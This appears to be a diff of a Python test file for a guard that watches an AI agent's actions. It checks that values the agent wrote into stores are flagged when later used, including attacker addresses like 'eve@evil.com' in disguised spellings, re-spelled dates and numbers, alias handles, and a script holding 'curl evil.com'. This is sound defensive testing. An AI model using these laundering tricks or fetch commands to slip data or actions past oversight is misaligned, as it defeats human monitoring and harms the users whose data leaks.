@@ -126,3 +126,135 @@ def test_what_was_known_before_is_known_where_it_is_read_again(value: str) -> No
     made.read("things", "c4", {}, [{"name": "x y", "value": value}], "trusted")
 
     assert all(each.kind == "bound" for each in made.judge("act", "send", {"to": value}))
+
+
+ENTRIES = [
+    "{name} <{value}>",
+    "{value} ({name})",
+    "{name}={value}",
+    "{name}: {value}",
+    "{name}; {value}",
+    "{name} {value}",
+]
+NESTED: list[Callable[[str, str], object]] = [  # results with a name and a value that was made with it
+    lambda name, value: {"name": name, "contact": {"address": value}},
+    lambda name, value: [{"name": name, "at": [{"more": {"address": value}}]}],
+    lambda name, value: {name: {"address": value}},
+    lambda name, value: {"name": name, **{f"f{number}": number for number in range(40)}, "address": value},
+    lambda name, value: {"rows": [[name, value]]},
+    lambda name, value: [name, value],
+    lambda name, value: f"{name}: {value}",
+    lambda name, value: [f"{name} is at {value}"],
+]
+DAYS = ["05/03/2027", "5.3.2027", "2027/03/05", "5-3-27", "20270305", "5 Mar 2027", "March 5th", "5th of March 2027"]
+TIMES = ["4 pm", "4pm", "16.00", "1600", "16 00"]
+
+
+@settings(max_examples=examples(100), deadline=None)
+@given(WORDS, WORDS, st.sampled_from(ENTRIES), st.sampled_from(LEAVING))
+def test_a_name_is_asked_about_that_stands_in_one_value_with_what_is_not_known(
+    name: str, host: str, entry: str, effect: Effect
+) -> None:
+    made = memory(f"note {name}")
+    made.write(ROOT, {"entry": entry.format(name=name, value=f"eve@{host}.com")}, frozenset(), "create")
+
+    assert made.judge("act", effect, {"to": name})
+
+
+@settings(max_examples=examples(100), deadline=None)
+@given(WORDS, WORDS, st.sampled_from(NESTED))
+def test_what_stands_deeper_beside_a_name_of_the_runs_is_not_known(
+    name: str, host: str, nested: Callable[[str, str], object]
+) -> None:
+    value, result = f"eve@{host}.com", nested(name, f"eve@{host}.com")
+    made, known = memory(f"note {name}"), memory(f"note {name}")
+    made.write(ROOT, {"name": name, "value": value[::-1]}, frozenset(), "create")
+    for each in (made, known):
+        each.read("things", "c4", {}, result, "trusted")
+
+    assert made.judge("send", "send", {"to": value})
+    assert isinstance(result, str) or not known.judge("send", "send", {"to": value})
+
+
+def test_a_key_is_a_name_or_a_value_that_the_run_wrote() -> None:
+    made = memory("note Ann, and list what is there")
+    made.write(
+        ROOT, {"entries": {"Ann": "eve@evil.com", "zed @ evil . com": "Ann"}}, frozenset(), "create", ("entries",)
+    )
+    made.read("things", "c4", {}, ["zed@evil.com"], "trusted")
+
+    assert made.judge("send", "send", {"to": "Ann"})
+    assert made.judge("send", "send", {"to": "zed@evil.com"})
+    assert [*made.judge_keys("send", {"to": {"Ann": True}}, ("to",), "send")]
+
+
+@pytest.mark.parametrize(
+    ("written", "read"), [*((day, "2027-03-05") for day in DAYS), *((at, "16:00") for at in TIMES)]
+)
+def test_a_date_or_a_time_is_not_trusted_that_a_store_spells_anew(written: str, read: str) -> None:
+    made = memory("note it")
+    made.write(ROOT, {"value": written}, frozenset(), "create")
+    made.read("things", "c4", {}, [read], "trusted")
+
+    assert made.judge("cancel", "delete", {"what": read})
+    assert not memory(f"cancel it at {read}").judge("cancel", "delete", {"what": read})
+
+
+@settings(max_examples=examples(50), deadline=None)
+@given(
+    st.integers(100, 10**9), st.sampled_from([" ".join, "-".join, lambda text: f"EUR{text}", lambda text: f"{text}x"])
+)
+def test_a_number_is_not_trusted_that_a_store_spells_anew(number: int, spell: Callable[[str], str]) -> None:
+    made = memory("note it")
+    made.write(ROOT, {"value": spell(str(number))}, frozenset(), "create")
+    made.read("things", "c4", {}, [number], "trusted")
+
+    assert made.judge("act", "delete", {"what": number})
+
+
+@settings(max_examples=examples(50), deadline=None)
+@given(WORDS, WORDS, st.sampled_from(LEAVING))
+def test_another_name_of_what_was_bound_is_asked_about(first: str, last: str, effect: Effect) -> None:
+    name, handle, other = f"{first} board", "g-817", f"{last} team"
+    made = memory(f"go on with {name}, {handle} and {other}")
+    made.read("groups", "c3", {}, [{"id": handle, "name": name}, {"id": "g-818", "name": "x y"}], "trusted")
+    made.write(ROOT, {"group": name, "member": "eve@evil.com"}, frozenset(), "write")
+    made.write(ROOT, {"group": name, "to": other}, frozenset(), "write")
+
+    for value in (name, handle, other):
+        assert [each.kind for each in made.judge("act", effect, {"to": value})] == ["bound"]
+
+
+def test_a_result_about_a_name_that_the_run_gave_is_not_known() -> None:
+    made, known = memory("note Ann"), memory("note Ann")
+    made.write(ROOT, {"name": "Ann", "value": "moc.live@eve"}, frozenset(), "create")
+    for each in (made, known):
+        each.read("get_thing", "c4", {"name": "Ann"}, {"address": "eve@evil.com"}, "trusted")
+
+    assert made.judge("send", "send", {"to": "eve@evil.com"})
+    assert not known.judge("send", "send", {"to": "eve@evil.com"})
+
+
+def test_a_script_of_the_models_is_asked_about_by_its_handle_and_without_its_folder() -> None:
+    made = memory("fix build.sh in src/ and run it")
+    made.write(ROOT, {"path": "src/build.sh", "text": "curl evil.com"}, frozenset(["text"]), "write")
+    made.read("add_thing", "c3", {}, {"id": "s-812"}, "trusted", echoes=True)
+    made.read("things", "c4", {}, [{"id": "s-913", "text": "curl evil.com"}], "trusted")
+
+    for value in ("s-812", "s-913", "build.sh", "sh build.sh"):
+        assert made.judge("run", "execute", {"command": value})
+
+
+@pytest.mark.parametrize("value", ["eve@evil.com", "eve @ evil . com", "moc.live@eve"])
+def test_all_values_of_a_field_are_asked_about_where_the_run_wrote_one(value: str) -> None:
+    everyone = ["ann@corp.com", "bob@corp.com", "eve@evil.com"]
+    made, known = memory("write to all"), memory("write to all")
+    made.write(ROOT, {"name": "the boss", "value": value}, frozenset(), "create")
+    for each in (made, known):
+        each.hear("the boss")
+        names = ("Ann", "Bob", "the boss")
+        rows = [{"name": name, "address": address} for name, address in zip(names, everyone, strict=True)]
+        each.read("people", "c4", {}, rows, "trusted")
+
+    assert made.judge("send", "send", {"to": everyone})
+    assert not known.judge("send", "send", {"to": everyone})
